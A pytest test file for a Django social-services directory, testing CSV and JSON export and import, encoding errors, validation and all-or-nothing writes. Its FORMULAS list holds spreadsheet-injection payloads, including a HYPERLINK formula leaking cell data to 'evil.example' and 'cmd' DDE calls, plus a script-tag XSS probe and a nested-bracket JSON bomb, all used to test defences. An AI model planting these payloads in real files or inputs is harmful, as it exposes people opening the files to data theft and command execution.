"""CSV and JSON export, CSV import: round trip, idempotence, all or nothing, bad files."""

import csv
import io
import json
from datetime import timedelta

import pytest
from django.core.management import CommandError, call_command
from django.utils import timezone
from django.utils.text import normalize_newlines
from hypothesis import given
from hypothesis import strategies as st

from structures.data.columns import spreadsheet_escape, spreadsheet_unescape
from structures.data.datainclusion import datainclusion_records_read
from structures.data.exports import directory_csv_files, directory_json_files
from structures.data.planning import records_import
from structures.data.readers import Encoding, csv_records_read, json_records_read
from structures.data.records import ImportReport
from structures.management.commands.load_demo import directory_delete
from structures.models import Contact, SearchEntry, Service, Structure, Theme, User

from .directory_data import directory_build, directory_snapshot, import_files, problems_of
from .factories import StructureFactory, ThemeFactory, UserFactory

pytestmark = pytest.mark.django_db

STRUCTURE_HEADER = (
    "uid;identifiant;nom;sigle;type;presentation;adresse;code_postal;commune;telephone;"
    "autre_telephone;courriel;site_internet;horaires;lignes_bus;arret;acces_plain_pied;"
    "precisions_acces;attentes_partenaires;limites_partenariat;annexe;relue_le"
)


def structure_line(slug, name="Centre social", postcode="69300", **cells):
    values = dict.fromkeys(STRUCTURE_HEADER.split(";"), "")
    values |= {"identifiant": slug, "nom": name, "code_postal": postcode, "type": "association"}
    values |= cells
    return ";".join(values.values())


def structures_csv(*lines, encoding="utf-8"):
    return ("\r\n".join([STRUCTURE_HEADER, *lines]) + "\r\n").encode(encoding)


def test_the_csv_export_is_utf8_with_a_bom_and_uses_the_chosen_delimiter():
    directory_build()
    files = directory_csv_files(delimiter=";")
    assert set(files) == {
        "thematiques.csv",
        "structures.csv",
        "services.csv",
        "contacts.csv",
        "changements.csv",
    }
    content = files["structures.csv"]
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    by_slug = {row["identifiant"]: row for row in rows}
    assert by_slug["restos"]["annexe"] == "oui"
    assert by_slug["ccas"]["horaires"] == "Du lundi au vendredi\n9 h – 12 h"
    services = files["services.csv"].decode("utf-8-sig")
    assert "logement, sante" in services
    header = directory_csv_files()["structures.csv"].decode("utf-8-sig").splitlines()[0]
    assert header.startswith('"uid","identifiant",')


def test_the_json_export_holds_every_table_with_native_types():
    directory_build()
    document = json.loads(directory_json_files()["repertoire.json"])
    assert len(document["structures"]) == 2
    assert len(document["services"]) == 3
    assert len(document["contacts"]) == 3
    service = next(item for item in document["services"] if item["identifiant"] == "logement")
    assert service["thematiques"] == ["logement", "sante"]
    assert service["active"] is True


def test_export_then_import_into_an_empty_database_reproduces_the_directory():
    directory_build()
    before = directory_snapshot()
    files = directory_csv_files(delimiter=";")
    directory_delete()
    assert not Structure.objects.exists()
    assert not Theme.objects.exists()

    report = import_files(files, apply=True)

    assert report.ok, problems_of(report)
    assert report.counts["services"]["created"] == 3
    assert directory_snapshot() == before
    entry = SearchEntry.objects.structures().get(structure__slug="ccas")
    assert entry.name_key.startswith("centre communal")  # imports index what they write


def test_reimporting_the_same_files_changes_nothing():
    directory_build()
    files = directory_csv_files()
    updated_at = dict(Service.objects.values_list("uid", "updated_at"))

    report = import_files(files, apply=True)

    assert report.ok
    for table in ["thematiques", "structures", "services", "contacts", "changements"]:
        assert report.counts[table]["created"] == report.counts[table]["updated"] == 0
    assert dict(Service.objects.values_list("uid", "updated_at")) == updated_at


def test_records_are_matched_by_their_uid_not_by_their_name():
    ccas = directory_build()
    text = directory_csv_files()["structures.csv"].decode("utf-8-sig")
    text = text.replace("Centre communal d'action sociale", "CCAS de Bellecombe")

    report = import_files({"structures.csv": text.encode()}, apply=True)

    assert report.counts["structures"]["updated"] == 1
    assert Structure.objects.count() == 2
    ccas.refresh_from_db()
    assert ccas.name == "CCAS de Bellecombe"


def test_a_dry_run_reports_the_changes_and_writes_nothing():
    report = import_files({"structures.csv": structures_csv(structure_line("ccas"))})
    assert report.ok
    assert not report.applied
    assert report.counts["structures"]["created"] == 1
    assert "Simulation" in report.summary_lines()[0]
    assert not Structure.objects.exists()


def test_the_example_files_of_the_readme_import_cleanly(capsys):
    call_command("import_directory", "fixtures/import-exemple", "--apply")
    assert Structure.objects.count() == 2
    assert Structure.objects.get(slug="restos-du-coeur").is_annex
    assert Contact.objects.get(name="Karim Exemple").service.slug == "aide-logement"
    call_command("import_directory", "fixtures/import-exemple")
    assert "0 à créer, 0 à mettre à jour, 2 inchangées" in capsys.readouterr().out


def test_an_import_never_replaces_a_review_date_with_an_older_one():
    recent = timezone.now() - timedelta(days=2)
    structure = StructureFactory(slug="ccas", name="CCAS", last_reviewed_at=recent)
    older = structure_line("ccas", name="CCAS", relue_le="01/01/2024")
    import_files({"structures.csv": structures_csv(older)}, apply=True)
    structure.refresh_from_db()
    assert structure.last_reviewed_at == recent

    newer = structure_line("ccas", name="CCAS", relue_le=timezone.localdate().isoformat())
    import_files({"structures.csv": structures_csv(newer)}, apply=True)
    structure.refresh_from_db()
    assert structure.last_reviewed_at.date() >= recent.date()
    assert timezone.localtime(structure.last_reviewed_at).date() == timezone.localdate()


def test_one_faulty_line_means_nothing_is_written_and_every_fault_is_listed():
    content = structures_csv(
        structure_line("ccas"),
        structure_line("cidff", postcode="6930"),
        structure_line("sans-nom", name=""),
        structure_line("ml", courriel="pas-un-courriel"),
    )
    report = import_files({"structures.csv": content}, apply=True)

    assert not report.applied
    assert not Structure.objects.exists()
    problems = problems_of(report)
    assert len(problems) == 3
    assert problems[0].startswith("structures.csv, ligne 3, colonne « code_postal » : « 6930 »")
    assert "5 chiffres" in problems[0]
    assert problems[1].startswith("structures.csv, ligne 4, colonne « nom »")
    assert problems[2].startswith("structures.csv, ligne 5, colonne « courriel »")
    assert "Import refusé : 3 problème(s)" in report.summary_lines()[0]


EXCEL_FILES = {
    "windows-1252": structures_csv(
        structure_line("creche", name="Crèche « Les Câlins » – Œuvre"), encoding="cp1252"
    ),
    "latin-1": structures_csv(
        structure_line("foyer", name="Foyer Hélène Boucher"), encoding="latin-1"
    ),
}


@pytest.mark.parametrize("content", EXCEL_FILES.values(), ids=EXCEL_FILES.keys())
def test_a_file_that_is_not_utf8_is_refused_by_default_with_its_line(content):
    report = import_files({"structures.csv": content}, apply=True)
    assert problems_of(report) == [
        "structures.csv, ligne 2 : le fichier n'est pas encodé en UTF-8 (c'est souvent le cas "
        "d'un fichier enregistré par Excel sous Windows, en Windows-1252). Dans Excel : "
        "Fichier › Enregistrer sous › « CSV UTF-8 (délimité par des virgules) », puis "
        "importez-le à nouveau ; ou choisissez l'encodage « Windows-1252 (Excel sous "
        "Windows) » pour l'importer tel quel."
    ]
    assert not Structure.objects.exists()


def test_the_line_given_is_the_one_of_the_first_undecodable_byte():
    content = structures_csv(structure_line("ccas"), structure_line("caf", name="CAF Rhône"))
    content = content.replace("Rhône".encode(), "Rhône".encode("cp1252"))
    report = import_files({"structures.csv": content})
    assert problems_of(report)[0].startswith("structures.csv, ligne 3 : le fichier n'est pas")


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (EXCEL_FILES["windows-1252"], "Crèche « Les Câlins » – Œuvre"),
        (EXCEL_FILES["latin-1"], "Foyer Hélène Boucher"),
        (
            b"\xef\xbb\xbf" + structures_csv(structure_line("caf", name="CAF du Rhône")),
            "CAF du Rhône",
        ),
    ],
    ids=["windows-1252", "latin-1", "utf-8 with a BOM"],
)
def test_with_the_windows_1252_encoding_chosen_excel_files_import(content, name):
    report = import_files({"structures.csv": content}, encoding=Encoding.WINDOWS_1252)
    assert report.ok
    assert not report.notes
    assert not Structure.objects.exists()

    import_files({"structures.csv": content}, apply=True, encoding=Encoding.WINDOWS_1252)
    assert Structure.objects.get().name == name


def test_a_utf8_file_read_as_windows_1252_gets_a_note():
    content = structures_csv(structure_line("caf", name="CAF du Rhône"))
    report = import_files({"structures.csv": content}, encoding=Encoding.WINDOWS_1252)
    assert "semble encodé en UTF-8" in report.notes[0]


@pytest.mark.parametrize("encoding", Encoding.values)
@pytest.mark.parametrize(
    ("content", "message"),
    [
        (STRUCTURE_HEADER.encode("utf-16"), "octets nuls"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "octets nuls"),
        (
            STRUCTURE_HEADER.encode() + b"\r\n;ccas;Caf\x81\r\n",
            {"utf-8": "n'est pas encodé en UTF-8", "windows-1252": "pas encodé en Windows-1252"},
        ),
        (
            b"\xef\xbb\xbf" + STRUCTURE_HEADER.encode() + b"\r\n;ccas;Caf\xe9\r\n",
            "commence par la marque d'un fichier UTF-8 (BOM) mais n'est pas encodé en UTF-8",
        ),
    ],
    ids=["utf-16", "binary", "undecodable byte", "bom then windows-1252"],
)
def test_unreadable_encodings_are_refused_in_both_modes(content, message, encoding):
    report = import_files({"structures.csv": content}, apply=True, encoding=encoding)
    if isinstance(message, dict):
        message = message[encoding]
    assert not report.ok
    assert message in problems_of(report)[0]
    assert not Structure.objects.exists()


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "le fichier est vide"),
        (b"\xef\xbb\xbf  \r\n", "le fichier est vide"),
        (
            STRUCTURE_HEADER.replace(";code_postal", "").encode(),
            "colonnes manquantes : « code_postal »",
        ),
        ((STRUCTURE_HEADER + ";remarques").encode(), "colonnes inconnues (retirez-les"),
        ((STRUCTURE_HEADER + ";nom").encode(), "colonnes en double : « nom »"),
        (STRUCTURE_HEADER.encode(), "aucune ligne à importer"),
    ],
)
def test_unreadable_files_are_refused_with_an_explanation(content, message):
    report = import_files({"structures.csv": content}, apply=True)
    assert not report.ok
    assert message in problems_of(report)[0]
    assert not Structure.objects.exists()


def test_extra_cells_on_a_line_are_reported():
    report = import_files({"structures.csv": structures_csv(structure_line("ccas") + ";de trop")})
    assert "23 valeurs pour 22 colonnes" in problems_of(report)[0]


def test_an_unknown_file_name_is_reported():
    report = import_files({"partenaires.csv": b"nom\r\nCCAS\r\n"})
    assert "fichier non reconnu" in problems_of(report)[0]


def test_duplicate_identifiers_in_a_file_are_reported_with_the_first_line():
    content = structures_csv(structure_line("ccas"), structure_line("ccas", name="Autre"))
    report = import_files({"structures.csv": content}, apply=True)
    assert problems_of(report) == [
        "structures.csv, ligne 3, colonne « identifiant » : « ccas » est déjà l'identifiant de "
        "structures.csv, ligne 2 : chaque identifiant ne doit figurer qu'une fois."
    ]
    assert not Structure.objects.exists()


def test_duplicate_uids_are_reported():
    uid = "7c1f1e6e-3b8a-4c36-9a55-0d2f3a1c2b4e"
    content = structures_csv(structure_line("a", uid=uid), structure_line("b", uid=uid))
    report = import_files({"structures.csv": content})
    assert "colonne « uid »" in problems_of(report)[0]


def test_a_slug_already_used_by_another_structure_is_reported():
    StructureFactory(slug="ccas", name="CCAS existant")
    line = structure_line("ccas", uid="7c1f1e6e-3b8a-4c36-9a55-0d2f3a1c2b4e")
    report = import_files({"structures.csv": structures_csv(line)})
    assert "déjà celui d'une autre structure, « CCAS existant »" in problems_of(report)[0]


def test_unknown_themes_are_reported_and_nothing_is_written():
    ThemeFactory(slug="logement", name="Logement")
    services = (
        "uid;structure;identifiant;intitule;thematiques;resume;objectifs;public;conditions_acces;"
        "deroulement;lieu_horaires;documents;active;relue_le\r\n"
        ";ccas;aide;Aide au logement;logement, jardinage;;;;;;;;oui;\r\n"
    )
    files = {
        "structures.csv": structures_csv(structure_line("ccas")),
        "services.csv": services.encode(),
    }
    report = import_files(files, apply=True)
    assert problems_of(report) == [
        "services.csv, ligne 2, colonne « thematiques » : thématique inconnue « jardinage » "
        "(thématiques connues : logement)."
    ]
    assert not Structure.objects.exists()
    assert not Service.objects.exists()


def test_html_in_a_text_field_is_refused():
    line = structure_line("ccas", presentation="Accueil <script>alert(1)</script> du public")
    report = import_files({"structures.csv": structures_csv(line)}, apply=True)
    assert "contient du code HTML (« <script> »)" in problems_of(report)[0]
    assert "colonne « presentation »" in problems_of(report)[0]
    assert not Structure.objects.exists()


def test_text_with_angle_brackets_that_is_not_html_is_accepted():
    line = structure_line("creche", presentation="Enfants de moins de 3 ans (<3 ans) & parents")
    assert import_files({"structures.csv": structures_csv(line)}).ok


def test_a_10000_line_file_with_one_fault_writes_nothing_and_names_the_line():
    lines = [
        structure_line(f"structure-{number}", name=f"Structure {number}")
        for number in range(10_000)
    ]
    lines[9_000] = structure_line("structure-9000", name="Structure 9000", code_postal="ABCDE")
    report = import_files({"structures.csv": structures_csv(*lines)}, apply=True)
    assert [problem.where for problem in report.problems] == ["structures.csv, ligne 9002"]
    assert report.counts["structures"]["created"] == 9_999
    assert not Structure.objects.exists()


def test_the_import_command_refuses_a_faulty_file_and_lists_the_problems(tmp_path, capsys):
    (tmp_path / "structures.csv").write_bytes(
        structures_csv(structure_line("ccas", postcode="123"))
    )
    with pytest.raises(CommandError, match="rien n'a été enregistré"):
        call_command("import_directory", str(tmp_path), "--apply")
    assert "colonne « code_postal »" in capsys.readouterr().out
    assert not Structure.objects.exists()


def test_the_import_command_reads_an_excel_file_only_with_encoding_windows_1252(tmp_path, capsys):
    (tmp_path / "structures.csv").write_bytes(EXCEL_FILES["windows-1252"])
    with pytest.raises(CommandError, match="rien n'a été enregistré"):
        call_command("import_directory", str(tmp_path), "--apply")
    assert "structures.csv, ligne 2 : le fichier n'est pas encodé en UTF-8" in (
        capsys.readouterr().out
    )
    assert not Structure.objects.exists()

    call_command("import_directory", str(tmp_path), "--apply", "--encoding", "windows-1252")
    assert Structure.objects.get().name == "Crèche « Les Câlins » – Œuvre"


def test_the_export_command_writes_the_files(tmp_path):
    directory_build()
    call_command(
        "export_directory", "--format", "csv", "--output", str(tmp_path), "--delimiter", ";"
    )
    call_command("export_directory", "--format", "json", "--output", str(tmp_path))
    names = sorted(path.name for path in tmp_path.iterdir())
    assert names == [
        "changements.csv",
        "contacts.csv",
        "repertoire.json",
        "services.csv",
        "structures.csv",
        "thematiques.csv",
    ]


def test_the_json_export_imports_back_into_an_empty_database():
    directory_build()
    before = directory_snapshot()
    files = directory_json_files()
    directory_delete()
    report = ImportReport()
    records = json_records_read(files=files, report=report)
    records_import(records=records, apply=True, report=report)
    assert report.ok, problems_of(report)
    assert directory_snapshot() == before


def test_a_json_file_that_is_not_ours_is_refused():
    report = ImportReport()
    json_records_read(files={"repertoire.json": b'{"structures": []}'}, report=report)
    assert "ce n'est pas un export JSON du répertoire" in problems_of(report)[0]
    document = json.loads(directory_json_files()["repertoire.json"])
    document["structures"] = [{"nom": "CCAS", "couleur": "bleu"}]
    report = ImportReport()
    json_records_read(files={"r.json": json.dumps(document).encode()}, report=report)
    assert "clés inconnues : couleur" in problems_of(report)[0]


def test_the_demo_territory_survives_a_csv_round_trip():
    call_command("load_demo", verbosity=0, stdout=io.StringIO())
    before = directory_snapshot()
    files = directory_csv_files(delimiter=";")
    accounts = User.objects.all()
    accounts.delete()
    directory_delete()

    report = import_files(files, apply=True)

    assert report.ok, problems_of(report)
    assert report.counts["services"]["created"] == 81
    assert directory_snapshot() == before


def test_cells_are_normalised_like_the_admin_forms_do():
    line = structure_line(
        "ccas",
        site_internet="ccas.example.org",
        telephone="+33465710010",
        code_postal="69 300",
        type="Service municipal",
        annexe="",
    )
    assert import_files({"structures.csv": structures_csv(line)}, apply=True).ok
    structure = Structure.objects.get()
    assert structure.website == "https://ccas.example.org"
    assert structure.phone == "04 65 71 00 10"
    assert structure.postcode == "69300"
    assert structure.kind == "service_municipal"
    assert structure.is_annex is False


@pytest.mark.parametrize(
    ("cells", "column", "message"),
    [
        ({"annexe": "peut-être"}, "annexe", "écrivez « oui » ou « non »"),
        ({"relue_le": "hier"}, "relue_le", "n'est pas une date"),
        ({"relue_le": "31/12/2999"}, "relue_le", "ne peut pas être dans le futur"),
        ({"type": "club"}, "type", "n'est pas un type de structure connu"),
        ({"uid": "abc"}, "uid", "n'est pas un identifiant stable valide"),
        ({"telephone": "12 34"}, "telephone", "n'est pas un numéro de téléphone français"),
    ],
)
def test_each_bad_cell_is_explained_with_its_column(cells, column, message):
    report = import_files({"structures.csv": structures_csv(structure_line("ccas", **cells))})
    assert len(report.problems) == 1
    assert report.problems[0].column == column
    assert message in report.problems[0].message


def test_an_applied_import_enters_the_history_of_every_fiche_it_writes():
    coordinator = UserFactory(structure=None, coordinator=True)
    directory_build()
    files = directory_csv_files()
    for model in [Contact, Service, Structure, Theme]:
        model.objects.all().delete()
    for model in [Contact, Service, Structure]:
        model.history.all().delete()

    report = ImportReport()
    records = csv_records_read(files=files, report=report)
    records_import(
        records=records, apply=True, report=report, user=coordinator, reason="Import CSV"
    )

    service = Service.objects.get(slug="logement")
    entry = service.history.get()
    assert (entry.history_type, entry.history_user, entry.history_change_reason) == (
        "+",
        coordinator,
        "Import CSV",
    )
    assert sorted(link.theme.slug for link in entry.themes.all()) == ["logement", "sante"]
    assert Structure.history.count() == 2
    assert Contact.history.count() == 3

    text = files["structures.csv"].decode("utf-8-sig").replace("Restos du cœur", "Restos")
    import_files(
        {"structures.csv": text.encode()} | {"services.csv": files["services.csv"]}, apply=True
    )
    assert Structure.objects.get(slug="restos").history.first().history_type == "~"
    assert Structure.history.count() == 3
    assert Service.history.count() == 3


@pytest.mark.parametrize("depth", [200_000, 50])
@pytest.mark.parametrize("reader", ["repertoire", "data-inclusion"])
def test_a_json_file_of_deeply_nested_brackets_is_refused_in_french(depth, reader):
    nested = b"[" * depth + b"]" * depth
    if reader == "repertoire":
        document = b'{"format": "repertoire-competences-sociales", "structures": ' + nested + b"}"
        files, read = {"repertoire.json": document}, json_records_read
    else:
        files, read = {"structures.json": b'[{"id": ' + nested + b"}]"}, datainclusion_records_read
    report = ImportReport()

    assert read(files=files, report=report) == []

    assert [problem.message for problem in report.problems] == [
        "listes ou objets imbriqués sur plus de 8 niveaux : ce n'est pas un fichier du "
        "répertoire ni de data·inclusion."
    ]


def test_a_json_value_that_is_neither_text_nor_a_list_of_texts_is_reported():
    directory_build()
    document = json.loads(directory_json_files()["repertoire.json"])
    document["structures"][0]["nom"] = {"texte": "CCAS"}
    report = ImportReport()
    json_records_read(files={"r.json": json.dumps(document).encode()}, report=report)
    assert (
        "« nom » : un texte, un nombre ou une liste de textes est attendu."
        in (problems_of(report)[0])
    )


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Cliquez ici")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("delimiter", [";", ","])
@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_a_csv_export_starts_a_formula(formula, delimiter):
    StructureFactory(slug="ccas", name="CCAS", role=formula, opening_hours=formula)

    content = directory_csv_files(delimiter=delimiter)["structures.csv"].decode("utf-8-sig")

    rows = list(csv.reader(io.StringIO(content, newline=""), delimiter=delimiter))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))]
    # Texts are stored with "\n" line endings: "\r=1+1" is kept as "\n=1+1".
    assert "'" + normalize_newlines(formula) in cells
    # every cell is quoted: a cell split on the other delimiter cannot start a formula
    assert content.startswith('"uid"' + delimiter + '"identifiant"')
    assert content.count('"') >= 2 * len(cells)


TEXTS = ["- Bail\n- Pièce d'identité", "'=déjà marqué", "'", "''", "' espace", "=1+1", "@accueil"]


def test_a_csv_round_trip_gives_back_every_text_exactly():
    directory_build()
    ccas = Structure.objects.get(slug="ccas")
    Structure.objects.filter(pk=ccas.pk).update(
        role=TEXTS[0], opening_hours=TEXTS[1], access_details=TEXTS[2], bus_stop=TEXTS[3]
    )
    Structure.objects.filter(slug="restos").update(
        partner_expectations=TEXTS[4], partnership_limits=TEXTS[5], role=TEXTS[6]
    )
    Service.objects.filter(slug="logement").update(documents=FORMULAS[0], procedure="- Appeler")
    before = directory_snapshot()
    files = directory_csv_files(delimiter=";")
    directory_delete()

    report = import_files(files, apply=True)

    assert report.ok, problems_of(report)
    assert directory_snapshot() == before
    assert Service.objects.get(slug="logement").procedure == "- Appeler"


@given(st.text(alphabet="'=+-@\t\r ab", max_size=8))
def test_the_formula_mark_is_always_taken_away_exactly(text):
    escaped = spreadsheet_escape(text)
    assert not escaped.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert spreadsheet_unescape(escaped) == text
